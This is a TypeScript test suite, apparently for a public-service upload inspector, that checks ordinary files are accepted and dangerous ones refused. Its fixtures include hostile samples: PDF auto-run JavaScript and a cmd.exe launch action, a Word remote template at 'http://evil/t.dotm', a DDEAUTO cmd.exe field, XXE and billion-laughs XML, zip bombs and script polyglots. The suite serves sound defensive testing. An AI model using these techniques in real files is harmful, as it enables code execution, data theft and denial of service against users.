import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import sharp from "sharp";
import { afterAll, describe, expect, it } from "vitest";
import {
  archiveOf,
  overlappingArchive,
  packedPdf,
  pdfFile,
  pngOf,
  wordFile,
} from "../../../test/support/made-files.ts";
import { samplePaper } from "../../demo/sample-paper.ts";
import { inspect } from "./inspect.ts";

const folder = mkdtempSync(join(tmpdir(), "motcua-inspect-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const codeOf = async (bytes: Uint8Array | string) => {
  const found = await inspect(Buffer.from(bytes));
  return found.ok ? `taken as ${found.value.extension}` : found.refusal.code;
};
const what = async (bytes: Buffer) => {
  const found = await inspect(bytes);
  return found.ok ? found.value.extension : found.refusal;
};
const photo = (width = 40) => sharp({ create: { width, height: width, channels: 3, background: "#a31515" } });

describe("a file that people really send is taken for what it is", () => {
  it("a scan, a photograph, an office document, a form as data", async () => {
    expect(await what(Buffer.from(samplePaper("To khai")))).toBe("pdf");
    expect(await what(await photo().jpeg().toBuffer())).toBe("jpg");
    expect(await what(await photo().png().toBuffer())).toBe("png");
    expect(await what(wordFile())).toBe("docx");
    expect(await what(Buffer.from('<?xml version="1.0" encoding="UTF-8"?><hoSo><ten>Lê</ten></hoSo>'))).toBe(
      "xml",
    );
  });

  it("a PDF says how many pages it has, each once however often it was revised", async () => {
    const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";
    const twice = Buffer.concat([pdfFile({ objects: [page] }), Buffer.from(`3 0 obj ${page} endobj %%EOF`)]);
    expect(await inspect(twice)).toMatchObject({ value: { pages: 2 } });
    expect(await inspect(packedPdf(page))).toMatchObject({ value: { pages: 2 } });
  });

  it("a PDF may open at a page, link to a site, and carry its data as XML or text", async () => {
    for (const catalog of ["/OpenAction [3 0 R /FitH null]", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"])
      expect(await codeOf(pdfFile({ catalog })), catalog).toBe("taken as pdf");
    const link = "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://dichvucong.gov.vn) >> >>";
    expect(await codeOf(pdfFile({ objects: [link] }))).toBe("taken as pdf");
    const data = "<hoaDon/>";
    const invoice = [
      "<< /Type /Filespec /F (hoa-don.xml) /EF << /F 5 0 R >> >>",
      `<< /Type /EmbeddedFile /Length ${data.length} >>\nstream\n${data}\nendstream`,
    ];
    expect(await codeOf(pdfFile({ objects: invoice }))).toBe("taken as pdf");
  });

  it("text that only speaks of scripts is text", async () => {
    const title = "<< /Title (Learn JavaScript \\(with /JS\\)) >>";
    expect(await codeOf(pdfFile({ objects: [title] }))).toBe("taken as pdf");
  });

  it.skipIf(!existsSync("/usr/bin/soffice"))(
    "what LibreOffice writes is taken: PDF and xlsx",
    async () => {
      writeFileSync(join(folder, "don.csv"), "Đơn đề nghị,cấp giấy xác nhận\n".repeat(80));
      const profile = `-env:UserInstallation=file://${folder}/profile`;
      for (const to of ["pdf", "xlsx"]) {
        execFileSync(
          "soffice",
          [profile, "--headless", "--convert-to", to, "--outdir", folder, join(folder, "don.csv")],
          { stdio: "ignore" },
        );
        expect(await codeOf(readFileSync(join(folder, `don.${to}`)))).toBe(`taken as ${to}`);
      }
    },
    60_000,
  );
});

describe("a PDF that would act by itself is not taken, and the reason says what it would do", () => {
  it.each([
    ["a script on opening", { catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>" }, "SCRIPT"],
    [
      "the same with its name spelled in numbers",
      { catalog: "/OpenAction << /S /J#61vaScript /J#53 (x) >>" },
      "SCRIPT",
    ],
    [
      "a script behind a name",
      { objects: ["<< /Names [(a) 5 0 R] >>", "<< /S /JavaScript /JS 6 0 R >>"] },
      "SCRIPT",
    ],
    [
      "a program started",
      { catalog: "/OpenAction 4 0 R", objects: ["<< /S /Launch /F (cmd.exe) >>"] },
      "LAUNCH",
    ],
    [
      "a site opened with the file",
      { catalog: "/OpenAction 4 0 R", objects: ["<< /S /URI /URI (http://x) >>"] },
      "OPEN_ACTION",
    ],
    ["a form that sends itself", { objects: ["<< /S /SubmitForm /F (http://x) >>"] }, "FORM_SENT"],
    ["an XFA form", { catalog: "/AcroForm << /XFA [(a) 4 0 R] >>" }, "XFA"],
    ["a film", { objects: ["<< /Subtype /RichMedia >>"] }, "MEDIA"],
    [
      "a program attached under its name",
      { objects: ["<< /Type /Filespec /F (hoa don.pdf.exe) >>"] },
      "EMBEDDED_PROGRAM",
    ],
    [
      "a program attached under another name",
      {
        objects: [
          "<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>",
          "<< /Length 9 >>\nstream\nMZ-program\nendstream",
        ],
      },
      "EMBEDDED_PROGRAM",
    ],
    [
      "a script hidden inside a stream",
      { objects: ["<< /Length 60 >>\nstream\n9 0 obj << /S /JavaScr#69pt /JS (x) >> endobj\nendstream"] },
      "SCRIPT",
    ],
  ])("%s", async (_name, made, reason) => {
    expect(await what(pdfFile(made))).toEqual({ code: "UPLOAD_ACTIVE", what: reason });
  });

  it("a script in a compressed object stream is found as well", async () => {
    expect(await what(packedPdf("<< /S /JavaScript /JS (x) >>"))).toEqual({
      code: "UPLOAD_ACTIVE",
      what: "SCRIPT",
    });
  });
});

describe("a PDF nobody could read in ten years is not taken", () => {
  it("encrypted, cut off, packed as a bomb, or packed as nobody can look into", async () => {
    expect(await codeOf(pdfFile({ trailer: "/Encrypt 9 0 R" }))).toBe("UPLOAD_ENCRYPTED");
    expect(await codeOf(samplePaper("x").subarray(0, 300))).toBe("UPLOAD_DAMAGED");
    expect(await codeOf(pdfFile({ objects: ["<< /T (no end >>"] }))).toBe("UPLOAD_DAMAGED");
    expect(await codeOf(packedPdf("<< >>", 150_000_000))).toBe("UPLOAD_UNPACKS_TOO_FAR");
    const odd =
      "<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nxx\nendstream";
    expect(await codeOf(pdfFile({ objects: [odd] }))).toBe("UPLOAD_DAMAGED");
  });

  it.skipIf(!existsSync("/usr/bin/qpdf"))(
    "encrypted by a real program, with and without a password to open",
    () => {
      writeFileSync(join(folder, "plain.pdf"), samplePaper("x"));
      return Promise.all(
        ["", "mo"].map(async (password) => {
          const out = join(folder, `locked-${password}.pdf`);
          execFileSync("qpdf", ["--encrypt", password, "owner", "256", "--", join(folder, "plain.pdf"), out]);
          expect(await codeOf(readFileSync(out))).toBe("UPLOAD_ENCRYPTED");
        }),
      );
    },
  );

  it("more pages than anybody reads", async () => {
    const page = "<< /Type /Page >>";
    const found = await inspect(pdfFile({ objects: Array.from({ length: 500 }, () => page) }));
    expect(found).toMatchObject({ refusal: { code: "UPLOAD_TOO_MANY_PAGES", pagesMax: 500 } });
  });
});

describe("an office document", () => {
  it("with macros is not taken, under whatever name", async () => {
    expect(await codeOf(wordFile([{ name: "word/vbaProject.bin", content: "x" }]))).toBe("UPLOAD_MACRO");
    const main = "application/vnd.ms-word.document.macroEnabled.main+xml";
    expect(await codeOf(wordFile([], { main }))).toBe("UPLOAD_MACRO");
  });

  it("with a program, a fetched template or a started program inside is not taken", async () => {
    expect(await codeOf(wordFile([{ name: "word/embeddings/oleObject1.bin", content: "x" }]))).toBe(
      "UPLOAD_ACTIVE",
    );
    const rel = `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>`;
    expect(await codeOf(wordFile([{ name: "word/_rels/settings.xml.rels", content: rel }]))).toBe(
      "UPLOAD_ACTIVE",
    );
    const body = `<w:document><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>`;
    expect(await codeOf(wordFile([], { body }))).toBe("UPLOAD_ACTIVE");
  });

  it("with a document type in one of its parts is not taken, however it is encoded", async () => {
    const laughs = `<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>`;
    expect(await codeOf(wordFile([], { body: laughs }))).toBe("UPLOAD_UNSAFE_XML");
    const sixteen = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(laughs, "utf16le")]);
    expect(await codeOf(wordFile([{ name: "word/a.xml", content: sixteen }]))).toBe("UPLOAD_UNSAFE_XML");
  });

  it("nested too deep is not taken", async () => {
    const deep = `<a>`.repeat(100_000) + `</a>`.repeat(100_000);
    expect(await codeOf(wordFile([], { body: deep }))).toBe("UPLOAD_UNSAFE_XML");
  });

  it("that unpacks too far is not taken: by size, by lying about it, by overlapping, by archives within", async () => {
    const zeros = Buffer.alloc(60_000_000);
    expect(await codeOf(wordFile([{ name: "word/media/a.bmp", content: zeros }]))).toBe(
      "UPLOAD_UNPACKS_TOO_FAR",
    );
    expect(await codeOf(wordFile([{ name: "word/media/a.bmp", content: zeros, claims: 100 }]))).toBe(
      "UPLOAD_UNPACKS_TOO_FAR",
    );
    expect(await codeOf(overlappingArchive(1_000))).toBe("UPLOAD_UNPACKS_TOO_FAR");
    let nested = archiveOf([{ name: "0.bin", content: zeros }]);
    for (let depth = 0; depth < 5; depth += 1)
      nested = archiveOf([{ name: `${depth}.zip`, content: nested }]);
    expect(await codeOf(nested)).toBe("UPLOAD_UNPACKS_TOO_FAR");
    const many = Array.from({ length: 2_100 }, (_, index) => ({ name: `w/${index}.txt`, content: "" }));
    expect(await codeOf(wordFile(many))).toBe("UPLOAD_UNPACKS_TOO_FAR");
  });

  it("with the table behind a chart is looked into once, and a bomb there is found", async () => {
    const name = "word/embeddings/Workbook1.docx";
    expect(await codeOf(wordFile([{ name, content: wordFile() }]))).toBe("taken as docx");
    const bomb = wordFile([{ name: "x.bmp", content: Buffer.alloc(60_000_000) }]);
    expect(await codeOf(wordFile([{ name, content: bomb }]))).toBe("UPLOAD_UNPACKS_TOO_FAR");
  });

  it("locked with a password is named so; an archive that is none is not taken", async () => {
    expect(await codeOf(wordFile([{ name: "word/a.xml", content: "<a/>", flags: 0x0801 }]))).toBe(
      "UPLOAD_ENCRYPTED",
    );
    const locked = Buffer.concat([
      Buffer.from("d0cf11e0a1b11ae1", "hex"),
      Buffer.alloc(600),
      Buffer.from("EncryptedPackage", "utf16le"),
    ]);
    expect(await codeOf(locked)).toBe("UPLOAD_ENCRYPTED");
    expect(await codeOf(archiveOf([{ name: "a.txt", content: "a" }]))).toBe("UPLOAD_TYPE_REFUSED");
    expect(await codeOf(wordFile().subarray(0, 200))).toBe("UPLOAD_DAMAGED");
  });
});

describe("a picture", () => {
  it("of 50,000 by 50,000 is refused before it is unpacked; one cut off is damaged", async () => {
    expect(await codeOf(pngOf(50_000, 50_000))).toBe("UPLOAD_TOO_MANY_PIXELS");
    const jpeg = await photo(800).jpeg().toBuffer();
    expect(await codeOf(jpeg.subarray(0, jpeg.length / 2))).toBe("UPLOAD_DAMAGED");
    expect(await codeOf(pngOf(200, 400))).toBe("UPLOAD_DAMAGED");
  });
});

describe("a file of two types", () => {
  it("is not taken: PDF and page, PDF and archive, picture and page, picture and PDF", async () => {
    const jpeg = await photo().jpeg().toBuffer();
    const page = Buffer.from("<html><script>alert(1)</script></html>");
    const archive = archiveOf([{ name: "Main.class", content: "x" }]);
    for (const parts of [
      [pdfFile(), page],
      [pdfFile(), archive],
      [jpeg, page],
      [jpeg, pdfFile()],
      [jpeg, archive],
    ])
      expect(await codeOf(Buffer.concat(parts))).toBe("UPLOAD_TWO_TYPES");
  });
});

describe("what is not on the list is not taken, whatever it is called", () => {
  it.each([
    ["a program", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)])],
    ["a page", Buffer.from("<!doctype html><script>alert(1)</script>")],
    [
      "a picture that is a program (SVG)",
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ],
    ["a GIF that is a script", Buffer.from("GIF89a/*;*/=1;alert(1)")],
    ["plain text", Buffer.from("xin chào")],
  ])("%s", async (_name, bytes) => {
    expect(await codeOf(bytes)).toBe("UPLOAD_TYPE_REFUSED");
  });

  it("SVG and pages dressed as XML are not data", async () => {
    for (const body of [
      '<svg xmlns="http://www.w3.org/2000/svg"/>',
      '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
      '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></a>',
      '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
      '<?xml-stylesheet href="x.xsl"?><a/>',
      "<a><b></a></b>",
    ])
      expect(await codeOf(`<?xml version="1.0"?>${body}`), body).toBe("UPLOAD_UNSAFE_XML");
  });

  it("nothing and too much", async () => {
    expect(await codeOf("")).toBe("UPLOAD_EMPTY");
    expect(await codeOf(Buffer.alloc(20 * 1_048_576 + 1))).toBe("UPLOAD_TOO_LARGE");
  });
});
